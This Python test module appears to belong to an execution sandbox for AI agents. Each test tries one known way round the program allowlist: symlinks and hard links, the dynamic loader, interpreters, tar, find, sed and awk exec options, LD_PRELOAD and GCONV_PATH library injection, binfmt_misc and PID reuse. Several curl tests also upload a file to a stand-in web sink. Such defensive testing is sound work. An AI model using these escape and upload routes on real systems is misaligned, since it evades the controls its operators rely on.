"""Rows 1 to 9, 12 and 16 to 22: ways to start a program that was not granted, or another one in its place."""
import mmap
import os
import time

from harness import command
from machine import WEB, sinks
from stage import PROGRAMS

LS, NC, CAT, TRUE, BASH = "/usr/bin/ls", "/usr/bin/nc.openbsd", "/usr/bin/cat", "/usr/bin/true", "/usr/bin/bash"
LOADER = "/lib64/ld-linux-x86-64.so.2"
BUSYBOX = "/usr/bin/busybox"
DOWNLOADING = "download http://weather.com/report with curl"
LIBRARY = f"{PROGRAMS}/constructor.so"


def _exists(path):
    return lambda: os.path.exists(path)


def _settle():
    """A change time has to lie behind the clock's last tick when the file is granted."""
    time.sleep(0.02)


def copy_in_write_area(stage):
    stage.attempt(stage.actor(), "processes.spawn", stage.copy(LS, stage.path("ls")), "/")


def copy_by_the_attacker(stage):
    stage.attempt(stage.actor(), "programs.copy_and_spawn", NC, stage.path("ls"), "-h")


def copy_outside_write_areas(stage):
    impostor = stage.copy(NC, stage.outside("ls"))
    stage.attempt(stage.actor(), "processes.spawn", impostor, "-h")
    stage.attempt(stage.actor(), "processes.spawn_as", LS, impostor, "-h")


def symbolic_link_of_granted_name(stage):
    os.symlink(NC, stage.path("ls"))
    os.symlink(stage.path("ls"), stage.path("dir"))
    for link in ("ls", "dir"):
        stage.attempt(stage.actor(), "processes.spawn", stage.path(link), "-h")


def hard_link_by_the_attacker(stage):
    # protected_hardlinks (sysctl) lets people link their own files only.
    source = stage.copy(NC, stage.outside("nc"))
    stage.attempt(stage.actor(), "programs.link_and_spawn", source, stage.inside("ls"), "-h")


def hard_link_of_granted_name(stage):
    link = stage.beside(NC, "ls")
    os.link(NC, link)
    stage.attempt(stage.actor(), "processes.spawn", link, "-h")


def program_in_memory(stage):
    stage.attempt(stage.actor(), "processes.spawn_from_memory", LS, "/")
    stage.attempt(stage.actor(), "programs.spawn_memory_by_name", LS, "/")


def program_without_a_name(stage):
    stage.attempt(stage.actor(), "programs.spawn_deleted", LS, stage.path("gone"), "/")
    stage.attempt(stage.actor(), "programs.spawn_unnamed", LS, os.path.dirname(stage.volatile("")), "/")


def program_by_descriptor(stage):
    stage.attempt(stage.actor(), "processes.spawn_by_descriptor", NC, "-h")
    stage.attempt(stage.actor(), "programs.spawn_empty_path", NC, "-h")
    stage.attempt(stage.actor(), "programs.spawn_at", "/usr/bin", "nc.openbsd", "-h")


def system_call_of_32_bits(stage):
    program = f"{PROGRAMS}/compat"
    stage.attempt(stage.actor(f"run {program}"), "programs.perform", program, "exec", TRUE)


def loader_starts_a_program(stage):
    stage.attempt(stage.actor(), "processes.spawn", LOADER, TRUE)


def granted_loader_starts_another_program(stage):
    actor = stage.actor(f"run {LOADER}")
    for program in (TRUE, stage.copy(TRUE, stage.path("true"))):
        stage.attempt(actor, "programs.command", {}, LOADER, program)


def script_in_write_area(stage):
    script = stage.write(stage.path("report"), f"#!{BASH}\nexit 0\n", 0o755)
    stage.attempt(stage.actor("run report.sh with bash"), "processes.spawn", script)


def script_that_was_not_granted(stage):
    script = stage.write(stage.outside("report"), f"#!{BASH}\nexit 0\n", 0o755)
    bare = stage.write(stage.outside("bare"), f"#!{script}\n", 0o755)
    for path in (script, bare):
        stage.attempt(stage.actor("run report.sh with bash"), "processes.spawn", path)


def granted_script_with_interpreter_of_own(stage):
    interpreter = stage.copy(TRUE, stage.path("interpreter"))
    script = stage.write(stage.outside("report"), f"#!{interpreter}\n", 0o755)
    _settle()
    stage.attempt(stage.actor(f"run {script}", fresh=True), "processes.spawn", script)


def interpreters_that_were_not_granted(stage):
    mark = stage.path("mark")
    for words in (["/usr/bin/sh", "-c", f"echo > {mark}"], [BASH, "-c", f"echo > {mark}"],
                  ["/usr/bin/perl", "-e", f"open F, '>', '{mark}'"], ["/usr/bin/mawk", f'BEGIN {{ print > "{mark}" }}'],
                  ["/usr/bin/python3", "-c", f"open('{mark}', 'w')"], [BUSYBOX, "sh", "-c", f"echo > {mark}"]):
        stage.attempt(stage.actor(), "processes.spawn", *words, effect=_exists(mark))
        if os.path.exists(mark):
            os.unlink(mark)


def _starts(stage, intent, words, environment=None):
    """Words that make a granted program start touch, which is not granted."""
    mark = stage.path("mark")
    stage.attempt(stage.actor(intent), "programs.command", environment or {},
                  *(word.replace("MARK", f"/usr/bin/touch {mark}") for word in words), effect=_exists(mark))
    if os.path.exists(mark):
        os.unlink(mark)


def awk_starts_a_program(stage):
    for text in ('BEGIN { system("MARK") }', 'BEGIN { "MARK" | getline }', 'BEGIN { print | "MARK" }'):
        _starts(stage, "filter lines with awk", ["awk", text])


def granted_interpreter_starts_a_program(stage):
    touch = f"/usr/bin/touch {stage.path('mark')}"
    for interpreter, text in (("bash", touch), ("python3", f"import os; os.execvp('/usr/bin/touch', '{touch}'.split())"),
                              ("perl", f"exec '{touch}' or exit $!")):
        script = stage.write(stage.path(f"report.{interpreter}"), text + "\n")
        _starts(stage, f"run `{interpreter}` {script}", [interpreter, script])


def interpreter_of_a_script_runs_other_code(stage):
    other = stage.write(stage.path("other"), f"echo >{stage.path('mark')}\n")
    for words in (["bash", "-c", ". " + other], ["bash", other], ["bash", "-euc", ". " + other], ["bash", "--", other],
                  ["bash", "--init-file", other, "-i", "-c", "exit"], ["bash", "-o", "pipefail", other]):
        _starts(stage, "run report.sh with bash", words)
    mark = stage.path("mark")
    for words in (["python3", "-c", f"open('{mark}', 'w')"], ["python3", "-uc", f"open('{mark}', 'w')"],
                  ["python3", "-W", "report.py", stage.write(stage.path("other.py"), f"open('{mark}', 'w')\n")]):
        _starts(stage, "run report.py with python3", words)
    for words in (["perl", "-e", f"open F, '>', '{mark}'"], ["perl", "-we", f"open F, '>', '{mark}'"]):
        _starts(stage, "run `perl` report.pl", words)


def find_starts_a_program(stage):
    for option in ("-exec", "-execdir"):
        _starts(stage, "find files with find",
                ["find", stage.directory, "-maxdepth", "0", option, "/usr/bin/touch", stage.path("mark"), ";"])


def tar_starts_a_program(stage):
    archive = stage.path("a.tar")
    stage.write(stage.path("member"), "x")
    command("tar", "-cf", archive, "-C", stage.directory, "member")
    stage.give(archive)
    for words in (["-xf", archive, "--to-command=MARK"],
                  ["-xf", archive, "--checkpoint=1", "--checkpoint-action=exec=MARK", "-C", stage.directory],
                  ["-I", "MARK", "-cf", stage.path("b.tar"), archive]):
        mark = stage.path("mark")
        words = [word.replace("MARK", f"/usr/bin/touch {mark}") for word in words]
        stage.attempt(stage.actor("extract a.tar with tar"), "programs.command_whatever", {}, "tar", *words,
                      effect=_exists(mark))
        if os.path.exists(mark):
            os.unlink(mark)


def tar_is_told_by_a_variable(stage):
    archive = stage.path("a.tar")
    stage.write(stage.path("member"), "x")
    command("tar", "-cf", archive, "-C", stage.directory, "member")
    stage.give(archive)
    mark = stage.path("mark")
    stage.attempt(stage.actor("extract a.tar with tar"), "programs.command_whatever",
                  {"TAR_OPTIONS": f"--to-command='/usr/bin/touch {mark}'"}, "tar", "-xf", archive, effect=_exists(mark))


def sed_starts_a_program(stage):
    source = stage.write(stage.path("text"), "line\n")
    _starts(stage, "replace words in text.txt with sed", ["sed", "1e MARK", source])


def xargs_starts_a_program(stage):
    names = stage.write(stage.path("names"), stage.path("mark") + "\n")
    _starts(stage, "search with grep; run xargs", ["xargs", "-a", names, "touch"])


def wrappers_that_were_not_granted(stage):
    for words in (["env"], ["nice"], ["timeout", "5"], ["setsid", "-w"], ["stdbuf", "-o0"], ["nohup"],
                  ["chrt", "-o", "0"], ["taskset", "1"], ["strace", "-o", "/dev/null"], ["setpriv", "--no-new-privs"],
                  ["busybox", "nice"]):
        stage.attempt(stage.actor(), "processes.spawn", f"/usr/bin/{words[0]}", *words[1:], TRUE)


def applet_by_another_name(stage):
    os.symlink(BUSYBOX, stage.path("ls"))
    stage.attempt(stage.actor(), "processes.spawn", stage.path("ls"), "/")
    stage.attempt(stage.actor(), "processes.spawn_as", "ls", BUSYBOX, "/")


def _uploads(stage, *words, environment=None):
    sinks[WEB].bodies.clear()
    stage.attempt(stage.actor(DOWNLOADING), "programs.command_whatever", environment or {},
                  "/usr/bin/curl", "-s", "-m", "5", *words, "http://weather.com/",
                  effect=lambda: any(b"smuggled" in body for body in sinks[WEB].bodies))


def curl_uploads(stage):
    text = stage.write(stage.path("text"), "smuggled\n")
    for words in (["-T", text], [f"-T{text}"], ["--upload-file", text], ["-d", f"@{text}"],
                  ["--data-binary", f"@{text}"], ["-F", f"a=@{text}"], ["--json", f"@{text}"], ["-sT", text]):
        _uploads(stage, *words)


def curl_uploads_by_configuration(stage):
    text = stage.write(stage.path("text"), "smuggled\n")
    settings = stage.write(stage.path("settings"), f"upload-file = {text}\n")
    _uploads(stage, "-K", settings)
    for name in (".curlrc", "curlrc"):
        stage.write(stage.path(name), f"upload-file = {text}\n")
    for variable in ("HOME", "CURL_HOME", "XDG_CONFIG_HOME"):
        _uploads(stage, environment={variable: stage.directory})


def bash_reads_a_start_file(stage):
    start = stage.write(stage.path("start"), f"/usr/bin/touch {stage.path('mark')}\n")
    script = stage.write(stage.path("report.sh"), "true\n")
    _starts(stage, f"run {script} with bash", ["bash", script], {"BASH_ENV": start})
    _starts(stage, f"run {script} with bash", ["bash", script],
            {"BASH_FUNC_true%%": f"() {{ /usr/bin/touch {stage.path('mark')}; }}"})


def _loads(stage, intent, words, environment):
    """The library's constructor makes the file that MARK names."""
    mark = stage.path("mark")
    stage.attempt(stage.actor(intent), "programs.command_whatever", {**environment, "MARK": mark}, *words,
                  effect=_exists(mark))
    if os.path.exists(mark):
        os.unlink(mark)


def library_by_preload(stage):
    for directory in (stage.path, stage.outside):
        library = stage.copy(LIBRARY, directory("preload.so"))
        for variable in ("LD_PRELOAD", "LD_AUDIT"):
            _loads(stage, "list files", [LS, "/"], {variable: library})


def library_by_path(stage):
    os.makedirs(stage.path("glibc-hwcaps"))
    stage.copy(LIBRARY, stage.path("libselinux.so.1"))
    _loads(stage, "list files", [LS, "/"], {"LD_LIBRARY_PATH": stage.directory})


def library_of_a_converter(stage):
    """gconv modules are libraries that a text file names."""
    stage.write(stage.path("gconv-modules"), "module SMUGGLED// INTERNAL smuggled 1\n")
    stage.copy(LIBRARY, stage.path("smuggled.so"))
    _loads(stage, "run /usr/bin/iconv", ["/usr/bin/iconv", "-f", "SMUGGLED", "-t", "UTF-8", "/etc/hostname"],
           {"GCONV_PATH": stage.directory})


def library_of_a_cipher_engine(stage):
    library = stage.copy(LIBRARY, stage.path("engine.so"))
    settings = stage.write(stage.path("openssl.cnf"), "openssl_conf = all\n[all]\nengines = every\n[every]\none = it\n"
                           f"[it]\nengine_id = it\ndynamic_path = {library}\ninit = 0\n")
    _loads(stage, DOWNLOADING, ["/usr/bin/curl", "-s", "-m", "1", "https://127.0.0.1:1/"], {"OPENSSL_CONF": settings})


def _granted_tool(stage):
    tool = stage.copy(TRUE, stage.outside("tool"))
    return tool, stage.actor(f"run {tool}", fresh=True)


def granted_program_written(stage):
    tool, actor = _granted_tool(stage)
    content = _content(tool)
    for act in ("files.append", "files.truncate"):
        stage.attempt(actor, act, tool, effect=lambda: _content(tool) != content)
    other = stage.copy(NC, stage.outside("other"))
    stage.attempt(actor, "files.rename", other, tool, effect=lambda: not os.path.exists(other))


def _content(path):
    with open(path, "rb") as file:
        return file.read()


def granted_program_replaced_by_another(stage):
    tool, actor = _granted_tool(stage)
    stage.setup(actor, "processes.spawn", tool)
    os.rename(stage.copy(NC, stage.outside("other")), tool)
    stage.attempt(actor, "processes.spawn", tool, "-h", reasons=["exec_not_granted"])
    tool, actor = _granted_tool(stage)
    stage.copy(NC, tool)
    stage.attempt(actor, "processes.spawn", tool, "-h", reasons=["exec_changed"])


def granted_program_written_through_a_link(stage):
    tool = stage.copy(TRUE, stage.outside("tool"))
    os.link(tool, stage.inside("alias"))
    _settle()
    stage.attempt(stage.actor(f"run {tool}", fresh=True), "files.append", stage.inside("alias"))


def granted_program_written_by_another_process(stage):
    """A process of the same user that is no agent may write it, but then it is another program."""
    tool = stage.copy(TRUE, stage.outside("tool"))
    _settle()
    actor = stage.actor(f"run {tool}", fresh=True)
    with open(tool, "ab") as file:
        file.write(b"more")
    stage.attempt(actor, "processes.spawn", tool)


def granted_program_changed_through_a_mapped_link(stage):
    """A store into a shared mapping tells no change time on tmpfs."""
    tool = stage.copy(TRUE, stage.outside("tool"))
    os.link(tool, stage.inside("alias"))
    _settle()
    stage.attempt(stage.actor(f"run {tool}", fresh=True), "files.keep_mapping", "tool", stage.inside("alias"))


def program_mapped_before_it_was_granted(stage):
    """A page that can be written already tells no change time when it is."""
    tool = stage.copy(TRUE, stage.outside("tool"))
    with open(tool, "r+b") as file, mmap.mmap(file.fileno(), 0) as mapping, open("/usr/bin/false", "rb") as other:
        mapping[0] = mapping[0]
        _settle()
        actor = stage.actor(f"run {tool}", fresh=True)
        changed = other.read()
        mapping[:len(changed)] = changed
    stage.attempt(actor, "processes.spawn", tool)


def aliases_in_proc(stage):
    for kind in ("root", "pid_root", "thread_root", "cwd", "fd", "dir_fd", "dots"):
        stage.attempt(stage.actor(), "programs.spawn_by_alias", kind, NC, "-h")


def registered_format(stage):
    """The kernel's list of formats is mounted where it always is."""
    place = "/proc/sys/fs/binfmt_misc"
    if not os.path.exists(f"{place}/register"):
        command("modprobe", "binfmt_misc")
        command("mount", "-t", "binfmt_misc", "none", place)
    stage.defer(_forget_format, f"{place}/smuggled")
    stage.attempt(stage.actor(), "confinement.register_format", f"{place}/register", "smuggled", "SMUG", NC,
                  effect=_exists(f"{place}/smuggled"))


def _forget_format(path):
    if os.path.exists(path):
        with open(path, "w") as file:
            file.write("-1")


def descendants(stage):
    for way in ("spawn_in_grandchild", "spawn_reparented", "spawn_daemonised", "spawn_posix", "spawn_from_thread"):
        stage.attempt(stage.actor(), f"processes.{way}", CAT, "/etc/hosts")
    stage.attempt(stage.actor(), "programs.spawn_sibling", CAT, "/etc/hosts")


def child_in_another_cgroup(stage):
    cgroup = "/sys/fs/cgroup/elsewhere"
    os.makedirs(cgroup, exist_ok=True)
    stage.attempt(stage.actor(), "processes.clone_into", cgroup)


def number_of_a_process_that_was_free(stage):
    """The tables that go by number would take the child for the process that had it before."""
    with stage.bystander() as before:
        wanted = before.pid
    with open("/proc/sys/kernel/ns_last_pid", "w") as last:
        last.write(str(wanted - 20))
    stage.attempt(stage.actor(), "programs.spawn_with_pid", wanted, TRUE)


def crowd_of_processes(stage):
    program = f"{PROGRAMS}/crowd"
    stage.attempt(stage.actor(f"run {program}"), "programs.perform", program, 4200, TRUE)
